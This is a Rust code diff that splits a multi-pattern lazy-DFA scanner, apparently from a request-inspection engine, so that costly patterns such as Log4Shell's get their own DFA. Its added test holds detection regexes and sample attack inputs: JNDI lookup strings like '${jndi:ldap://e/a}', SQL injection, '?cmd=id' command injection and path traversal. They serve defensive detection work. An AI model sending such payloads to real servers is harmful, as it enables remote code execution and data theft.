@@ -1,5 +1,6 @@
 //! The patterns of one field as one lazy DFA that tells which of them
-//! match, in one pass over the text.
+//! match, in one pass over the text (a pattern whose states would
+//! multiply the others' in a DFA of its own: see [`Scanner`]).
 //!
 //! A step of a DFA is a table lookup that waits for the one before, about
 //! a nanosecond a byte whatever the text. Two things cut that, neither of
@@ -25,6 +26,7 @@ use regex_automata::util::pool::Pool;
 use regex_automata::util::prefilter::Prefilter;
 use regex_automata::util::syntax;
 use regex_automata::{Input, MatchError, MatchKind, Span};
+use regex_syntax::hir::{Hir, HirKind};
 
 /// Bytes read between two looks for a repetition.
 const BLOCK: usize = 64;
@@ -42,33 +44,128 @@ const MAX_PERIOD: usize = 32;
 
 type CacheFn = Box<dyn Fn() -> Cache + Send + Sync>;
 
-/// Several patterns compiled into one lazy DFA that reports every pattern
-/// that matches (not only the leftmost).
+/// The patterns of one field, each in one of the lazy DFAs that together
+/// tell every pattern that matches (not only the leftmost).
+///
+/// A pattern that counts a repetition far (`[^}]{0,60}`) and whose every
+/// match starts with one of a few literals (`${`) gets a DFA of its own,
+/// read from the first of them on: alone it costs a search when the
+/// literal is absent, while in the DFA of the others its states multiply
+/// theirs. Log4Shell's lookups made the DFA of all the url's patterns
+/// build a new state every few hundred bytes of varied punctuation (a
+/// new line each time), each about 12 us: 890 us a line, 73 us with
+/// Log4Shell's pattern read apart.
 pub(crate) struct Scanner {
-    dfa: DFA,
-    caches: Pool<Cache, CacheFn>,
-    /// When every match starts with one of a few literals (`://`): finds
-    /// the first, where the reading starts (none: nothing matches).
-    prefilter: Option<Prefilter>,
+    parts: Vec<Automaton>,
+    patterns: usize,
 }
 
 impl std::fmt::Debug for Scanner {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
         f.debug_struct("Scanner")
-            .field("patterns", &self.dfa.pattern_len())
+            .field("patterns", &self.patterns)
+            .field("dfas", &self.parts.len())
             .finish_non_exhaustive()
     }
 }
 
 impl Scanner {
     /// `patterns` in the dialect of rules (bytes, Unicode off unless a
-    /// pattern turns it on), `limit` the bytes the NFA and the DFA's cache
-    /// may take each.
+    /// pattern turns it on), `limit` the bytes each NFA and each DFA's
+    /// cache may take.
     pub(crate) fn new(patterns: &[&str], limit: usize) -> Result<Self, String> {
         let syntax = syntax::Config::new().unicode(false).utf8(false);
         let hirs = syntax::parse_many_with(patterns, &syntax).map_err(|e| e.to_string())?;
-        let prefilter =
-            Prefilter::from_hirs_prefix(MatchKind::All, &hirs).filter(Prefilter::is_fast);
+        let (mut rest, mut parts) = (Vec::new(), Vec::new());
+        for (index, hir) in hirs.iter().enumerate() {
+            // Any search for the literals costs less than the DFA's states
+            // (regex's "fast" ones are rare bytes: `${` is not).
+            let prefilter = match counts_far(hir) {
+                true => Prefilter::from_hirs_prefix(MatchKind::All, std::slice::from_ref(hir)),
+                false => None,
+            };
+            match prefilter {
+                Some(prefilter) => parts.push(Automaton::new(
+                    &[patterns[index]],
+                    vec![index],
+                    Some(prefilter),
+                    limit,
+                )?),
+                None => rest.push(index),
+            }
+        }
+        if !rest.is_empty() {
+            let own: Vec<&str> = rest.iter().map(|index| patterns[*index]).collect();
+            let own_hirs: Vec<_> = rest.iter().map(|index| hirs[*index].clone()).collect();
+            let prefilter =
+                Prefilter::from_hirs_prefix(MatchKind::All, &own_hirs).filter(Prefilter::is_fast);
+            parts.insert(0, Automaton::new(&own, rest, prefilter, limit)?);
+        }
+        Ok(Self {
+            parts,
+            patterns: patterns.len(),
+        })
+    }
+
+    /// Which patterns match `text`, by index (`None`: none does); an error
+    /// when a lazy DFA gave up on this text.
+    pub(crate) fn matches(&self, text: &[u8]) -> Result<Option<Vec<bool>>, MatchError> {
+        let mut found = vec![false; self.patterns];
+        let mut any = false;
+        for automaton in &self.parts {
+            automaton.matches(text, &mut found, &mut any)?;
+        }
+        Ok(any.then_some(found))
+    }
+
+    /// How many lazy DFAs the patterns are read with.
+    #[cfg(test)]
+    fn dfas(&self) -> usize {
+        self.parts.len()
+    }
+}
+
+/// The repetitions counted furthest from their least (`[^}]{0,60}`) are
+/// what multiply a DFA's states: each place such a repetition may have
+/// reached is a state of its own, and every combination of them too.
+const FAR_COUNT: u32 = 16;
+
+/// Whether `hir` holds a repetition counted [`FAR_COUNT`] or more beyond
+/// its least (`{0,60}`, `{1,20}`; not `*` or `+`, which count nothing).
+fn counts_far(hir: &Hir) -> bool {
+    match hir.kind() {
+        HirKind::Repetition(repetition) => {
+            repetition
+                .max
+                .is_some_and(|max| max - repetition.min >= FAR_COUNT)
+                || counts_far(&repetition.sub)
+        }
+        HirKind::Capture(capture) => counts_far(&capture.sub),
+        HirKind::Concat(parts) | HirKind::Alternation(parts) => parts.iter().any(counts_far),
+        HirKind::Empty | HirKind::Literal(_) | HirKind::Class(_) | HirKind::Look(_) => false,
+    }
+}
+
+/// Patterns compiled into one lazy DFA that reports every one that
+/// matches.
+struct Automaton {
+    dfa: DFA,
+    /// The index in the field's patterns of each of its own.
+    indices: Vec<usize>,
+    caches: Pool<Cache, CacheFn>,
+    /// When every match starts with one of a few literals (`://`): finds
+    /// the first, where the reading starts (none: nothing matches).
+    prefilter: Option<Prefilter>,
+}
+
+impl Automaton {
+    fn new(
+        patterns: &[&str],
+        indices: Vec<usize>,
+        prefilter: Option<Prefilter>,
+        limit: usize,
+    ) -> Result<Self, String> {
+        let syntax = syntax::Config::new().unicode(false).utf8(false);
         let dfa = DFA::builder()
             .configure(
                 DFA::config()
@@ -92,22 +189,36 @@ impl Scanner {
         let create: CacheFn = Box::new(move || for_pool.create_cache());
         Ok(Self {
             dfa,
+            indices,
             caches: Pool::new(create),
             prefilter,
         })
     }
 
-    /// Which patterns match `text`, by index (`None`: none does); an error
-    /// when the lazy DFA gave up on this text.
-    pub(crate) fn matches(&self, text: &[u8]) -> Result<Option<Vec<bool>>, MatchError> {
-        let mut found = vec![false; self.dfa.pattern_len()];
-        let mut any = false;
+    /// Marks in `found` (by index in the field's patterns) those of its
+    /// patterns that match `text`, and `any` when one does; an error when
+    /// the lazy DFA gave up on this text.
+    fn matches(&self, text: &[u8], found: &mut [bool], any: &mut bool) -> Result<(), MatchError> {
         let mut cache = self.caches.get();
         cache.search_start(0);
-        let result = self.scan(&mut cache, text, &mut found, &mut any);
+        let result = self.scan(&mut cache, text, found, any);
         cache.search_finish(text.len());
-        result?;
-        Ok(any.then_some(found))
+        result
+    }
+
+    /// The patterns match state `sid` reports, marked in `found`.
+    fn record(&self, cache: &Cache, sid: LazyStateID, found: &mut [bool], any: &mut bool) {
+        for match_index in 0..self.dfa.match_len(cache, sid) {
+            let own = self.dfa.match_pattern(cache, sid, match_index).as_usize();
+            if let Some(slot) = self
+                .indices
+                .get(own)
+                .and_then(|index| found.get_mut(*index))
+            {
+                *slot = true;
+                *any = true;
+            }
+        }
     }
 
     fn scan(
@@ -427,7 +538,7 @@ impl Scanner {
         };
         if next.is_tagged() {
             if next.is_match() {
-                record(dfa, cache, next, found, any);
+                self.record(cache, next, found, any);
             } else if next.is_quit() {
                 return Err(MatchError::quit(byte, at));
             }
@@ -452,7 +563,7 @@ impl Scanner {
             .next_eoi_state(cache, sid)
             .map_err(|_| MatchError::gave_up(text.len()))?;
         if last.is_match() {
-            record(&self.dfa, cache, last, found, any);
+            self.record(cache, last, found, any);
         }
         Ok(())
     }
@@ -519,15 +630,6 @@ fn whole_blocks<'t, const LANES: usize>(
     Some(blocks)
 }
 
-fn record(dfa: &DFA, cache: &Cache, sid: LazyStateID, found: &mut [bool], any: &mut bool) {
-    for index in 0..dfa.match_len(cache, sid) {
-        if let Some(slot) = found.get_mut(dfa.match_pattern(cache, sid, index).as_usize()) {
-            *slot = true;
-            *any = true;
-        }
-    }
-}
-
 /// Where a reading may go on from, `at` being where it is and `after` the
 /// states after each of the bytes it read last: past every whole
 /// repetition of a unit of `period` bytes that ends those bytes with the
@@ -572,8 +674,29 @@ fn common_prefix(a: &[u8], b: &[u8]) -> usize {
 }
 
 #[cfg(test)]
-mod tests {
+pub(crate) mod tests {
     use super::*;
+
+    /// Text that never repeats: `alphabet`'s characters drawn at random
+    /// (seeded) to `bytes`, with `payload` put at `at` when it fits.
+    pub(crate) fn scrambled(
+        alphabet: &[&str],
+        bytes: usize,
+        seed: u32,
+        payload: &str,
+        at: usize,
+    ) -> Vec<u8> {
+        let mut state = seed;
+        let mut text = Vec::with_capacity(bytes);
+        while text.len() < bytes {
+            state = state.wrapping_mul(1_103_515_245).wrapping_add(12_345);
+            text.extend_from_slice(alphabet[(state >> 16) as usize % alphabet.len()].as_bytes());
+        }
+        if let Some(place) = text.get_mut(at..at + payload.len()) {
+            place.copy_from_slice(payload.as_bytes());
+        }
+        text
+    }
     use regex::bytes::RegexBuilder;
 
     /// Which of `patterns` match `text`, each pattern on its own (the
@@ -752,6 +875,50 @@ mod tests {
                 scrambled.push(b"abcdefghijklmnopqrstuvwxyz ./${}"[(seed >> 16) as usize % 32]);
             }
             texts.push(scrambled);
+        }
+        check(&patterns, &texts);
+    }
+
+    #[test]
+    fn patterns_that_start_with_a_literal_are_read_apart_with_the_same_answers() {
+        // Log4Shell's lookup (a literal start, then repetitions counted
+        // far), patterns that start with a literal but count nothing far,
+        // and patterns that start anywhere.
+        let patterns = [
+            r"\$\{\s*(jndi|(\$\{[^}]*\}|[^}]){0,60}(j|\$\{[^}]*j[^}]*\})\S{0,40}n\S{0,40}d\S{0,40}i\S{0,10}:)",
+            r"\bunion\s+select\b",
+            r"[?&]cmd=\s*(id|ls)\b",
+            r"(\.\./){2}",
+            r"'\s*(or|and)\s+\d",
+        ];
+        let scanner = Scanner::new(&patterns, 1 << 24).unwrap();
+        // Only the lookup counts far and starts with a literal.
+        assert_eq!(scanner.dfas(), 2, "{scanner:?}");
+        let punctuation: Vec<&str> = "'()<>;|&${}[]*/.=-#"
+            .split("")
+            .filter(|c| !c.is_empty())
+            .collect();
+        let mut texts: Vec<Vec<u8>> = [
+            "/a?x=${jndi:ldap://e/a}",
+            "/a?x=${${lower:j}ndi:ldap://e/a}",
+            "/a?q=1 union select 2&cmd=id",
+            "/a?q=../../etc&x=' or 1",
+            "${}${}${",
+            "?cmd=ls",
+        ]
+        .iter()
+        .map(|t| t.as_bytes().to_vec())
+        .collect();
+        for seed in 0..40 {
+            let payload =
+                ["${jndi:x}", "?cmd=id", "../../", "' or 1", "union select"][seed as usize % 5];
+            texts.push(scrambled(
+                &punctuation,
+                2_000,
+                seed,
+                payload,
+                700 + seed as usize * 31,
+            ));
         }
         check(&patterns, &texts);
     }
